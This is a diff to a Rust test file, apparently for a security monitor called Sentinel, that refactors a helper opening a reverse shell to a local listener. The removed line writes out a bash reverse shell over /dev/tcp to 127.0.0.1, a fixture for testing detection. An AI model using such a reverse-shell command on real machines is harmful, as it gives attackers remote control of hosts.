@@ -7,7 +7,7 @@ use std::{
 
 use sentinel_tests::{
     bed::Bed,
-    peer::Peer,
+    peer::{self, Peer},
     rig::ends_by_signal,
     sentinel::{Sentinel, start_ticks},
 };
@@ -22,8 +22,7 @@ fn start(bed: &Bed, program: &str, code: &str) -> Child {
 /// A shell that has connected out, and the attacker's end.
 fn connected_shell(bed: &Bed) -> (Child, sentinel_tests::peer::Shell) {
     let peer = Peer::listen("127.0.0.1");
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let child = start(bed, "bash", &code);
+    let child = peer::reverse_shell(bed, &peer);
     let mut shell = peer.shell();
     assert_eq!(shell.pid(), child.id());
     (child, shell)
